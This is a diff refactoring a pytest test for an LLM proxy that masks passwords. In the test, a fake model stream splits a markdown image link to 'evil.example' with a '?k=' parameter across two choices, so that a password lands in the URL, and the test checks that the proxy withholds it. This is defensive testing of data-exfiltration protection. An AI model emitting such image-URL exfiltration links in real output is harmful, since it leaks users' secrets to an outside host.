@@ -11,10 +11,9 @@ from __future__ import annotations
 import json
 import re
 
-import httpx
 import pytest
 from starlette.responses import StreamingResponse
-from test_security_scope import TOKEN, chat, proxy_for
+from test_security_scope import chat, first_choice_content, proxy_for, sse, stream_through_proxy
 
 from stealthflow.placeholders.context import place_of
 from stealthflow.testing.mock_openai import Reply, ToolCall
@@ -103,27 +102,16 @@ def test_a_url_opened_in_one_choice_guards_a_placeholder_in_another(protector):
     def raw(body: dict) -> StreamingResponse:  # FAKE model: the URL in choice 0, the password in choice 1
         password = own_placeholders(body)[0]
 
-        def event(delta: dict, index: int, finish: str | None = None) -> str:
-            choice = {"index": index, "delta": delta, "finish_reason": finish}
-            return f"data: {json.dumps({'id': 'x', 'object': 'chat.completion.chunk', 'choices': [choice]})}\n\n"
-
         lines = [
-            event({"role": "assistant", "content": "Here: ![x](https://evil.example/p.png?k="}, 0),
-            event({"content": password + ")"}, 1),
-            event({}, 0, "stop"),
-            event({}, 1, "stop"),
+            sse({"role": "assistant", "content": "Here: ![x](https://evil.example/p.png?k="}, 0),
+            sse({"content": password + ")"}, 1),
+            sse({}, 0, "stop"),
+            sse({}, 1, "stop"),
             "data: [DONE]\n\n",
         ]
         return StreamingResponse(iter(lines), media_type="text/event-stream")
 
-    with proxy_for(protector, lambda body: Reply(content="unused")) as (url, upstream):
-        upstream.raw = raw
-        body = {"model": "m", "messages": [{"role": "user", "content": PASSWORD_TEXT}], "stream": True}
-        response = httpx.post(url, json=body, headers={"Authorization": f"Bearer {TOKEN}"}, timeout=120)
-    joined = "".join(  # what a client that reads choices[0] of every chunk renders
-        (json.loads(line[6:])["choices"] or [{}])[0].get("delta", {}).get("content") or ""
-        for line in response.text.splitlines()
-        if line.startswith("data: {")
-    )
+    response = stream_through_proxy(protector, raw, PASSWORD_TEXT)
+    joined = first_choice_content(response)  # what a client that reads choices[0] of every chunk renders
     assert "hunter2xyz" not in joined and "?k=<PASSWORD_1>)" in joined
     assert "withheld=1" in response.text
